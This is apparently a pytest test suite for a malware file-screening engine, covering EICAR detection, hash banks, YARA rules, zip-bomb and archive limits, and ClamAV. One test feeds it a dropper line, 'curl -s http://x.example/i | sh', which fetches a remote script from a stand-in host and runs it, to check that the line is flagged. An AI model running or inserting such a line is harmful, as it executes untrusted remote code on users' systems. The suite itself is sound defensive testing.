"""The engine's file screening (Art. 15), without Django: types by content, the hash bank, YARA, archives and their
limits, ClamAV over its socket."""

from __future__ import annotations

import hashlib
import io
import time
import tracemalloc

import pytest

from tests.screening.clamav import EICAR_SIGNATURE, SAMPLE_SIGNATURE, clamd_socket  # noqa: F401 (fixture)
from tests.screening.filesamples import (
    CLEAN_TEXT,
    ELF,
    HASH_BANK_SAMPLE,
    MACHO,
    PE,
    PNG,
    deep_zip,
    eicar,
    nested_eicar_zip,
    tar_gz,
    zip_bomb,
    zip_of,
)
from zilu.screening.clamd import Clamd
from zilu.screening.files import RULES_DIR, FilePolicy, FileScanner, HashBank, identify, screen_file


def codes(verdict):
    return [(f.kind, f.code) for f in verdict.findings]


def test_clean_file_passes_with_hashes():
    verdict = screen_file(CLEAN_TEXT, name="report.txt")
    assert verdict.suggestion == "pass" and verdict.findings == ()
    assert verdict.sha256 == hashlib.sha256(CLEAN_TEXT).hexdigest()
    assert verdict.md5 == hashlib.md5(CLEAN_TEXT).hexdigest()
    assert verdict.size == len(CLEAN_TEXT)


def test_repository_does_not_hold_the_eicar_signature():
    signature = eicar()
    for path in RULES_DIR.parent.rglob("*"):
        if path.is_file():
            assert signature not in path.read_bytes(), path


@pytest.mark.parametrize("source", ["bytes", "path", "stream"])
def test_eicar_is_blocked_by_the_yara_rule(tmp_path, source):
    data = eicar() + b"\r\n"
    if source == "path":
        (tmp_path / "eicar.com").write_bytes(data)
        verdict = screen_file(tmp_path / "eicar.com")
    elif source == "stream":
        verdict = screen_file(io.BytesIO(data), name="eicar.com")
    else:
        verdict = screen_file(data, name="eicar.com")
    assert verdict.suggestion == "block"
    assert codes(verdict) == [("yara", "eicar_test_file")]
    assert verdict.findings[0].path == "eicar.com"


def test_eicar_in_a_nested_zip_names_the_path():
    verdict = screen_file(nested_eicar_zip(), name="outer.zip")
    assert verdict.suggestion == "block"
    assert verdict.mime == "application/zip"
    (finding,) = verdict.findings
    assert (finding.kind, finding.code, finding.path) == (
        "yara",
        "eicar_test_file",
        "outer.zip!docs/inner.zip!eicar.com",
    )
    assert verdict.members == 4  # readme, inner.zip, and the inner readme and eicar


def test_eicar_in_a_tar_gz():
    verdict = screen_file(tar_gz({"a/eicar.txt": eicar(), "b.txt": CLEAN_TEXT}), name="bundle.tar.gz")
    assert verdict.suggestion == "block"
    assert verdict.findings[0].path == "bundle.tar.gz!content!a/eicar.txt"


@pytest.mark.parametrize("digest", ["sha256", "md5"])
def test_hash_bank_hit(digest):
    value = getattr(hashlib, digest)(HASH_BANK_SAMPLE).hexdigest()
    verdict = screen_file(HASH_BANK_SAMPLE, name="notice.pdf", hashes={value.upper(): "trojan.sample"})
    assert verdict.suggestion == "block"
    assert codes(verdict) == [("hash", "trojan.sample")]
    # the bank also matches inside archives
    inside = screen_file(zip_of({"notice.pdf": HASH_BANK_SAMPLE}), hashes=[value])
    assert codes(inside) == [("hash", "malware")] and inside.findings[0].path == "file!notice.pdf"


def test_hash_bank_refuses_what_is_not_a_digest():
    with pytest.raises(ValueError, match="not an MD5 or SHA-256"):
        HashBank(["abc"])


@pytest.mark.parametrize(("data", "mime"), [(PE, "portable-executable"), (ELF, "x-executable"), (MACHO, "mach")])
def test_executables_by_content_whatever_the_name(data, mime):
    verdict = screen_file(data, name="holiday-photo.jpg")
    assert verdict.suggestion == "block"
    assert ("type", "executable") in codes(verdict)
    assert ("type", "name_mismatch") in codes(verdict)
    assert mime in verdict.mime
    flagged = screen_file(data, name="tool", policy=FilePolicy(executables="review"))
    assert flagged.suggestion == "review"
    assert screen_file(data, name="tool", policy=FilePolicy(executables="pass")).suggestion == "pass"


def test_name_that_lies_about_the_type():
    verdict = screen_file(PNG, name="contract.pdf")
    assert verdict.suggestion == "review"
    assert codes(verdict) == [("type", "name_mismatch")]
    assert "named .pdf but the content is image/png" in verdict.findings[0].detail
    assert screen_file(PNG, name="seal.PNG").findings == ()
    assert screen_file(CLEAN_TEXT, name="notes.md").findings == ()
    assert codes(screen_file(CLEAN_TEXT, name="scan.jpg")) == [("type", "name_mismatch")]


def test_scripts_are_flagged_and_droppers_named():
    verdict = screen_file(b"#!/bin/sh\ncurl -s http://x.example/i | sh\n", name="install.sh")
    assert verdict.suggestion == "review"
    assert codes(verdict) == [("type", "script"), ("yara", "shell_download_pipe_to_shell")]


def test_java_class_and_fat_macho_are_told_apart():
    assert identify(b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\0" * 50).extension == "macho"
    assert identify(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 50).extension == "class"


def test_zip_bomb_is_blocked_with_bounded_memory():
    bomb = zip_bomb(64 * 1024 * 1024)
    tracemalloc.start()
    started = time.monotonic()
    verdict = screen_file(bomb, name="bomb.zip")
    elapsed = time.monotonic() - started
    _current, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert verdict.suggestion == "block"
    assert codes(verdict) == [("archive", "ratio")]
    assert "zip bomb" in verdict.findings[0].detail
    assert verdict.expanded_bytes < 64 * 1024 * 1024
    assert peak < 40 * 1024 * 1024 and elapsed < 10


def test_archive_limits_depth_members_and_total_size():
    deep = screen_file(deep_zip(5), name="deep.zip")
    assert (deep.suggestion, codes(deep)) == ("block", [("archive", "depth")])
    assert screen_file(deep_zip(3), name="ok.zip").suggestion == "pass"
    many = zip_of({f"f{i}.txt": b"x" for i in range(30)})
    verdict = screen_file(many, name="many.zip", policy=FilePolicy(max_members=20))
    assert (verdict.suggestion, codes(verdict)) == ("block", [("archive", "members")])
    big = zip_of({"a.txt": CLEAN_TEXT * 2000, "b.txt": CLEAN_TEXT * 2000})
    verdict = screen_file(big, name="big.zip", policy=FilePolicy(max_expanded_bytes=200_000))
    assert (verdict.suggestion, codes(verdict)) == ("block", [("archive", "size")])


def test_damaged_archive_is_unscannable_not_clean():
    damaged = nested_eicar_zip()[:-30]
    verdict = screen_file(damaged, name="broken.zip")
    assert verdict.suggestion == "review"
    assert codes(verdict) == [("archive", "unreadable")]


def test_policy_from_dict_rejects_unknown_keys_and_values():
    assert FilePolicy.from_dict({"max_depth": 2}).max_depth == 2
    with pytest.raises(ValueError, match="unknown"):
        FilePolicy.from_dict({"depth": 2})
    with pytest.raises(ValueError, match="pass, review or block"):
        FilePolicy(executables="quarantine")


# --------------------------------------------------------------------------- ClamAV


@pytest.mark.clamav
def test_clamav_finds_the_signatures_the_test_built(clamd_socket):  # noqa: F811 (the fixture)
    clamd = Clamd(clamd_socket)
    assert clamd.ping()
    scanner = FileScanner(clamd=clamd)
    verdict = scanner.scan(eicar(), name="eicar.com")
    assert ("clamav", f"{EICAR_SIGNATURE}.UNOFFICIAL") in codes(verdict)
    assert ("yara", "eicar_test_file") in codes(verdict)
    verdict = scanner.scan(HASH_BANK_SAMPLE, name="notice.pdf")  # only ClamAV's hash database knows this one
    assert (verdict.suggestion, codes(verdict)) == ("block", [("clamav", f"{SAMPLE_SIGNATURE}.UNOFFICIAL")])
    nested = scanner.scan(nested_eicar_zip(), name="outer.zip")
    assert ("clamav", f"{EICAR_SIGNATURE}.UNOFFICIAL") in codes(nested)
    assert scanner.scan(CLEAN_TEXT, name="a.txt").suggestion == "pass"


def test_clamav_down_means_unscanned_not_clean(tmp_path):
    verdict = FileScanner(clamd=Clamd(str(tmp_path / "missing.sock"))).scan(CLEAN_TEXT, name="a.txt")
    assert verdict.suggestion == "review"
    assert codes(verdict) == [("clamav", "unavailable")]


def test_cli_screens_files(tmp_path, capsys):
    from zilu.screening.cli import main

    (tmp_path / "clean.txt").write_bytes(CLEAN_TEXT)
    (tmp_path / "outer.zip").write_bytes(nested_eicar_zip())
    (tmp_path / "notice.pdf").write_bytes(HASH_BANK_SAMPLE)
    bank = tmp_path / "hashes.txt"
    bank.write_text(f"# known bad\n{hashlib.md5(HASH_BANK_SAMPLE).hexdigest()} trojan.sample\n", encoding="utf-8")
    assert main(["--file", str(tmp_path / "clean.txt")]) == 0
    assert '"suggestion": "pass"' in capsys.readouterr().out
    paths = [str(tmp_path / name) for name in ("clean.txt", "outer.zip", "notice.pdf")]
    assert main([arg for p in paths for arg in ("--file", p)] + ["--hashes", str(bank)]) == 1
    import json

    verdicts = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [v["suggestion"] for v in verdicts] == ["pass", "block", "block"]
    assert verdicts[2]["findings"][0]["code"] == "trojan.sample"
    assert main(["--file", str(tmp_path / "missing")]) == 2
